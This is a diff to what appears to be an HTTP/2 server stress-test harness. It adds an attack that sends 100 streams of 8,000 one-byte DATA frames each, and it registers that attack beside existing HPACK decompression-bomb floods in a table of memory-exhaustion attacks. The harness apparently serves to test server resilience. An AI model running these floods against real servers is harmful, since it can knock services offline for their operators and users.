@@ -24,6 +24,16 @@ async function askStatic(peer: Peer): Promise<void> {
   await peer.send(Buffer.concat(Array.from({ length: 100 }, () => headers(peer.stream(), large))));
 }
 
+/** As many bytes as a stream may send at once, each in a frame of its own. */
+async function crumble(peer: Peer): Promise<void> {
+  const head = block('/hold', 'POST');
+  for (let stream = 0; stream < 100 && !peer.closed; stream++) {
+    const id = peer.stream();
+    const crumbs = Array<Buffer>(8000).fill(frame(FRAME.data, 0, id, Buffer.of(1)));
+    await peer.send(Buffer.concat([headers(id, head, false), ...crumbs]));
+  }
+}
+
 const window = 2 ** 30;
 
 /** A field that enters the dynamic table (RFC 7541, section 6.2.1), and blocks that name it |count| times (section 6.1). */
@@ -77,6 +87,7 @@ export const memory: Record<string, Attack> = {
     },
     { settings: [[SETTING.initialWindowSize, window]], window },
   ),
+  'bodies in frames of one byte that nobody reads': siege(crumble),
   'HPACK bomb: one field named 12,000 times': flood((peer) => headers(peer.stream(), bomb(12_000)), { frames: 1 }),
   'HPACK bombs that stay below 64 KiB': flood((peer) => headers(peer.stream(), bomb(10)), {
     frames: 1,
